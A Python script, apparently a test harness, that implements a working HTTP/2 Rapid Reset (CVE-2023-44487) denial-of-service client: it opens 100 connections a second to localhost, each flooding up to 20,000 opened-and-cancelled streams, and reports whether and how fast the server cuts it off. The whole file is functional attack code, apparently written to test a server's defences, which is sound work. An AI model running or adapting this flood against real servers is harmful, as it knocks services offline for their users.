"""A client that means harm: comes back a hundred times a second, and each time opens HTTP/2 streams
and cancels them at once (Rapid Reset, CVE-2023-44487) until it is told to go.

    attacker.py PORT SECONDS [CERTIFICATE]    prints one JSON object; with a third argument over TLS
"""

import json
import selectors
import socket
import ssl
import statistics
import struct
import sys
import time

CONNECTIONS_PER_SECOND = 100
STREAMS_MAX = 20_000  # of a connection that nobody ends
TIMEOUT = 1.0         # seconds, until it is let in
AT_ONCE = 64 * 1024   # bytes, before others have their turn
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, GOAWAY = 1, 3, 4, 7
END_STREAM_AND_HEADERS = 0x5
CANCEL = 8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(text):
    return bytes([len(text)]) + text


def flood():
    """All that a connection sends: by HPACK's static table, without an index of its own."""
    head = (b"\x83\x86" + b"\x04" + literal(b"/v1/chat/completions")
            + b"\x01" + literal(b"127.0.0.1"))
    streams = range(1, 2 * STREAMS_MAX, 2)
    return PREFACE + frame(SETTINGS, 0, 0) + b"".join(
        frame(HEADERS, END_STREAM_AND_HEADERS, stream, head)
        + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)) for stream in streams)


class Attack:
    """One connection."""

    def __init__(self, port, tls, bytes_to_send):
        self.begun = time.monotonic()
        self.left = memoryview(bytes_to_send)
        self.heard = b""
        self.told_to_go = self.stopped = False
        plain = socket.create_connection(("127.0.0.1", port), timeout=TIMEOUT)
        self.socket = tls.wrap_socket(plain) if tls else plain
        self.socket.setblocking(False)

    def go_on(self):
        """False: it has ended."""
        try:
            return self._listen() and self._send()
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return True
        except OSError:
            self.stopped = True
            return False

    def _listen(self):
        try:
            heard = self.socket.recv(65_536)
        except (BlockingIOError, ssl.SSLWantReadError):
            return True
        self.heard += heard
        while len(self.heard) >= 9:
            end = 9 + int.from_bytes(self.heard[:3], "big")
            if len(self.heard) < end:
                break
            self.told_to_go = self.told_to_go or self.heard[3] == GOAWAY
            self.heard = self.heard[end:]
        self.stopped = self.told_to_go or not heard
        return not self.stopped

    def _send(self):
        if self.left:
            self.left = self.left[self.socket.send(self.left[:AT_ONCE]):]
        return True


class Attacker:
    """Opens connections at a rate, whatever becomes of those before."""

    def __init__(self, port, tls):
        self.port, self.tls, self.bytes = port, tls, flood()
        self.selector = selectors.DefaultSelector()
        self.ended, self.refused = [], 0

    def run(self, seconds):
        start = time.monotonic()
        begun = 0
        while time.monotonic() < start + seconds:
            if begun < (time.monotonic() - start) * CONNECTIONS_PER_SECOND:
                begun += 1
                self.open()
            due = start + begun / CONNECTIONS_PER_SECOND
            for key, _ in self.selector.select(max(0.0, due - time.monotonic())):
                self.go_on(key.data)
        return self.report(begun)

    def open(self):
        try:
            attack = Attack(self.port, self.tls, self.bytes)
        except OSError:
            self.refused += 1
            return
        self.selector.register(attack.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, attack)

    def go_on(self, attack):
        if not attack.go_on():
            self.selector.unregister(attack.socket)
            attack.socket.close()
            self.ended.append((attack.stopped, time.monotonic() - attack.begun))
        elif not attack.left:
            self.selector.modify(attack.socket, selectors.EVENT_READ, attack)

    def report(self, begun):
        stopped = [taken for was_stopped, taken in self.ended if was_stopped]
        return {"connections": begun, "refused": self.refused, "stopped": len(stopped),
                "stopped_after_ms": 1e3 * statistics.median(stopped) if stopped else None}


def main():
    tls = None
    if len(sys.argv) > 3:
        tls = ssl.create_default_context(cafile=sys.argv[3])
        tls.set_alpn_protocols(["h2"])
        tls.check_hostname = False
    print(json.dumps(Attacker(int(sys.argv[1]), tls).run(float(sys.argv[2]))))


if __name__ == "__main__":
    main()
